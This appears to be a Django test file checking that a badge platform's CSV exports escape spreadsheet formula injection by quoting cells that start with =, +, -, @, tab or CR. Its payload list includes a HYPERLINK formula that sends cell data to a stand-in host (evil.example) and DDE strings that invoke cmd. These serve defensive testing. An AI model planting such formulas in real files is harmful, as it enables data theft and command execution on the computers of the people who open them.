"""Abuse: formula injection through the CSV files the platform writes (OWASP "CSV Injection").

A learner name, badge name or failure reason starting with =, +, -, @, tab or CR would run as a formula when staff
open the report in a spreadsheet (e.g. =HYPERLINK(...) sending data away). Every cell the platform writes that
starts with one of those gets a leading single quote, through one helper (issuers/spreadsheets.py).
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from badges.models import Award, AwardStatus, BadgeClass
from courses.imports import completion_import_confirm, completion_import_preview
from issuers.models import Role
from issuers.spreadsheets import spreadsheet_cell
from learners.models import LearnerName
from tests.factories import CourseFactory, MembershipFactory

pytestmark = pytest.mark.django_db

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|'/C calc'!A0",
]


def test_formula_cells_in_the_import_failure_report_are_refused(client):
    """Attack: learner names (from the institution's own CSV), a badge name and failure reasons that are formulas,
    downloaded by staff as the import's failure report."""
    course = CourseFactory()
    membership = MembershipFactory(issuer=course.issuer, role=Role.AWARDER)
    rows = "\n".join(
        f'l{i}@example.org,"{p.replace(chr(34), chr(34) * 2)}",{course.code},yes' for i, p in enumerate(PAYLOADS)
    )
    record, parsed = completion_import_preview(
        actor=None, issuer=course.issuer, filename="f.csv", content=f"email,name,course,completed\n{rows}\n".encode()
    )
    assert parsed.ok, parsed.errors
    assert completion_import_confirm(actor=membership.user, completion_import=record)  # small: applied at once
    record.refresh_from_db()
    Award.objects.filter(pk__in=record.award_ids).update(status=AwardStatus.FAILED, failure_reason="=1+1")
    BadgeClass.objects.filter(pk=course.badge_class_id).update(name="@badge")
    # Rows written before names were validated may hold a tab or CR at the start.
    first = Award.objects.get(pk=record.award_ids[0])
    LearnerName.objects.filter(learner_id=first.learner_id).update(name="\tTAB=1")
    Award.objects.filter(pk=record.award_ids[1]).update(failure_reason="\r=2")

    client.force_login(membership.user)
    response = client.get(reverse("admin:courses_completionimport_failures", args=[record.public_id]))
    assert response.status_code == 200
    table = list(csv.reader(io.StringIO(response.content.decode())))
    assert table[0] == ["email", "name", "badge", "reason"]
    cells = [cell for row in table[1:] for cell in row]
    assert len(table) == 1 + len(PAYLOADS)
    assert not [c for c in cells if c.startswith(DANGEROUS)], cells
    names = {row[1] for row in table[1:]}
    assert "'\tTAB=1" in names and {"'" + p for p in PAYLOADS[1:]} <= names
    assert {row[2] for row in table[1:]} == {"'@badge"}
    assert {"'=1+1", "'\r=2"} <= {row[3] for row in table[1:]}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ann", "Ann"),
        ("", ""),
        (None, ""),
        (42, "42"),
        ("a=b", "a=b"),
    ],
)
def test_the_one_cell_helper(value, expected):
    assert spreadsheet_cell(value) == expected


def test_every_csv_writer_goes_through_the_helper():
    """No module writes CSV with the bare csv module: a new export cannot forget the escaping."""
    root = Path(__file__).resolve().parents[2]
    # The apps and config, named: a glob of the checkout would also read virtualenvs under var/.
    packages = [root / name for name in ("badges", "courses", "issuers", "learners", "config")]
    offenders = []
    for path in (source for package in packages for source in package.rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if relative == "issuers/spreadsheets.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8", errors="replace")):
            offenders.append(relative)
    assert offenders == [], f"use issuers.spreadsheets instead of csv.writer in {offenders}"


def test_the_list_writer_escapes_too():
    from issuers.spreadsheets import SpreadsheetWriter

    stream = io.StringIO()
    SpreadsheetWriter(stream).writerows([["=1", "ok", "-2"]])
    assert next(csv.reader(io.StringIO(stream.getvalue()))) == ["'=1", "ok", "'-2"]
